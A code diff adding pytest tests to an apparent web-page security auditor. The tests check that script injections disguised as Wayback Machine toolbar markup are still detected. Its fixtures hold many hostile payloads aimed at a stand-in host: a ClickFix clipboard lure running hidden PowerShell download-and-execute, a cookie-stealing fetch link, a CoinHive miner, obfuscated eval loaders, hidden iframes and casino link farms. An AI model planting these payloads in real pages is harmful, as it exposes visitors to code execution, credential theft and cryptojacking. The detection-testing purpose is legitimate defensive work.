@@ -406,3 +406,138 @@ def test_a_page_at_an_archive_like_url_with_no_marks_is_no_replay(url: str) -> N
             '20230105123456/https://example.com/">5 January 2023</a></body></html>')
     doc = Document(input="t", kind="html", text=text, url=url)
     assert unwrapped(doc) == (doc, None)
+
+
+_TOOLBAR = ("<!-- BEGIN WAYBACK TOOLBAR INSERT -->", "<!-- END WAYBACK TOOLBAR INSERT -->")
+_DRESSED = [
+    # a wrapped URL: the archive's copy of another site's code, from the root or absolute
+    '<script src="/web/20230105123456js_/https://evil-track.test/x.js"></script>',
+    '<iframe src="https://web.archive.org/web/2023if_/https://evil-track.test/f" width="0" '
+    'height="0" style="display:none"></iframe>',
+    # code that names no URL: a ClickFix lure, a miner, a URL put together
+    '<script>navigator.clipboard.writeText("powershell -w hidden -c iwr evil-track.test/a|iex")'
+    ';document.title="Verify you are human"</script>',
+    "<script>var miner=new CoinHive.Anonymous('SITEKEY1234567890abcdef');miner.start();</script>",
+    "<script>var s=document.createElement('script');s.src='https:/'+'/evil-track.test/x.js';"
+    "document.head.appendChild(s)</script>",
+    "<script>__wm.bt(1);window['ev'+'al'](name)</script>",
+    "<script>__wm.bt(1);[].constructor.constructor(name)()</script>",
+    # markup that loads, hidden from a URL scan by an entity, a srcdoc, CSS or an element
+    '<iframe src="https&#58;//evil-track.test/f" width="0" height="0"></iframe>',
+    '<iframe srcdoc="&lt;script src=&quot;https://evil-track.test/x.js&quot;&gt;&lt;/script&gt;">'
+    '</iframe>',
+    '<div style="background:url(https://evil-track.test/p.gif)"></div>',
+    '<style>@import "https://evil-track.test/a.css";</style>',
+    '<link rel="preload" as="script" href="https://evil-track.test/x.js">',
+    '<meta http-equiv="refresh" content="0;url=https://evil-track.test/">',
+    '<object data="https://evil-track.test/x.swf"></object>',
+    '<svg><image href="https://evil-track.test/p.gif"/></svg>',
+    '<base href="https://evil-track.test/">',
+    '<a href="/" ping="https://evil-track.test/ping">home</a>',
+    '<a href="javascript:fetch(\'https://evil-track.test/c?\'+document.cookie)">x</a>',
+    '<img src="/static/x.png" onerror="s=document.createElement(\'script\');document.body.'
+    'appendChild(s).src=this.title" title="//evil-track.test/x.js">',
+    '<form action="https://evil-track.test/collect" method="post"><input name="q" autofocus '
+    'onfocus="this.form.submit()"></form>',
+    # a link farm: the toolbar links to the archive, the page and share boxes only
+    '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="https://casino-bonus{i}.test/">online casino bonus {i}</a> ' for i in range(30)
+    ) + "</div>",
+    '<div style="position:absolute;left:-9999px">' + "".join(
+        f'<a href="\\\\casino-bonus{i}.test\\">online casino bonus {i}</a> ' for i in range(30)
+    ) + "</div>",
+    '<script src="/web/20230105123456js_/https:/\n/evil-track.test/x.js"></script>',
+    # an item anyone can upload to archive.org is no file of the archive's chrome
+    '<script src="https://archive.org/download/harbour-kit/loader.js"></script>'
+    '<iframe src="https://ia800100.us.archive.org/3/items/harbour-kit/f.html" width="0" '
+    'height="0" style="display:none"></iframe>',
+    # markup the browser reads otherwise: a comment ended early, a '>' in a quoted value
+    '<!--><script src="https://evil-track.test/x.js"></script>-->',
+    '<img title=">" src="//evil-track.test/p.gif">',
+]
+
+
+@pytest.mark.parametrize("injected", _DRESSED)
+def test_an_injection_dressed_as_the_archives_chrome_is_audited_as_it_is(
+    injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # whatever the chrome's comments wrap that is not what the archive's chrome is made of
+    # is the page's: the audit reads as it does with the comments taken away
+    def page(dressed: bool) -> PageReport:
+        start, end = _TOOLBAR if dressed else ("", "")
+        text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{start}"
+                f"{injected}{end}\n<article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed, bare = page(True), page(False)
+    assert dressed.replay is not None
+    assert _what_it_names(dressed) == _what_it_names(bare)
+
+
+def test_chrome_loads_from_the_archive_not_from_the_host_its_marks_name() -> None:
+    # the marks' original and archive host are the page's to write: naming the injection's
+    # host there lets the chrome load from it no more than from any other
+    marks = ('<script>__wm.wombat("https://evil-track.test/","20230105123456",'
+             '"https://evil-track.test/","web","x","1");</script>')
+    injected = '<script src="https://evil-track.test/x.js"></script>'
+    text = (f"<html><head>{marks}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
+            "<p>story</p></body></html>")
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
+    assert replay is not None and injected in doc.text
+
+
+@pytest.mark.parametrize("marks", [
+    '<script>__wm.wombat("https://www.harbour-gazette.test/","20230105123456",'
+    '"https://evil-track.test/","web","x","1");</script>',
+    '<script>wbinfo.url = "https://www.harbour-gazette.test/"; wbinfo.timestamp = '
+    '"20230105123456"; wbinfo.prefix = "https://evil-track.test/web/";</script>',
+])
+@pytest.mark.parametrize("url", ["https://www.harbour-gazette.test/", None])
+def test_a_wrapper_on_a_host_the_marks_name_is_that_hosts_code(
+    marks: str, url: str | None, engine: Engine, catalogue: Catalogue
+) -> None:
+    # the marks' archive host is the page's to write: evil.test's `/web/<time>js_/` copy of
+    # jQuery is evil.test's code, and its hidden frame evil.test's, not jQuery's or YouTube's
+    injected = ('<script src="https://evil-track.test/web/20230105123456js_/https://ajax.'
+                'googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>'
+                '<iframe src="https://evil-track.test/web/2023if_/https://www.youtube.com/embed/'
+                'x" width="0" height="0" style="display:none"></iframe>')
+    text = (f"<!DOCTYPE html>\n<html><head>{marks}</head><body>\n{injected}\n"
+            "<article><p>The council voted.</p></article></body></html>")
+    page = audit_document(Document("t", "html", text, url), engine, catalogue)
+    assert page.replay is not None
+    assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]
+    assert [f.kind for f in page.findings] == ["hidden-iframe"]
+
+
+_CLICKFIX = ('navigator.clipboard.writeText("powershell -w hidden -c iwr evil-track.test/a|iex");'
+             'document.title="Verify you are human";')
+
+
+@pytest.mark.parametrize("page", [
+    # the toolbar's comments inside a script are JavaScript comments: the code between runs
+    f"<script>\n{_TOOLBAR[0]}\n{_CLICKFIX}\n{_TOOLBAR[1]}\n</script>",
+    f'<script>var a="{_TOOLBAR[0]}";{_CLICKFIX}var b="{_TOOLBAR[1]}";</script>',
+    # inside an attribute's value, a style, a script's string before the head include's end
+    f'<img alt="{_TOOLBAR[0]}" src="//evil-track.test/p.gif" width="1" height="1" '
+    f'title="{_TOOLBAR[1]}">',
+    f"<style>{_TOOLBAR[0]}@import url(//evil-track.test/a.css);{_TOOLBAR[1]}</style>",
+    f'<script>var h="<head>";{_CLICKFIX}//<!-- End Wayback Rewrite JS Include -->\n</script>',
+    # an escaped script runs past its first end tag
+    f"<script><!--<script></script>{_TOOLBAR[0]}{_CLICKFIX}{_TOOLBAR[1]}--></script>",
+])
+def test_chrome_comments_inside_a_tag_or_a_script_are_no_chrome(
+    page: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    # audited as the same page with the comments saying something else
+    def audit(text: str) -> PageReport:
+        text = (f"<!DOCTYPE html>\n<html><body>{_WOMBAT_OF_SITE}\n{text}\n"
+                "<article><p>The council voted.</p></article></body></html>")
+        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                              engine, catalogue)
+
+    dressed = audit(page)
+    bare = audit(page.replace("WAYBACK", "WEATHER").replace("Wayback", "Weather"))
+    assert dressed.replay is not None
+    assert _what_it_names(dressed) == _what_it_names(bare)
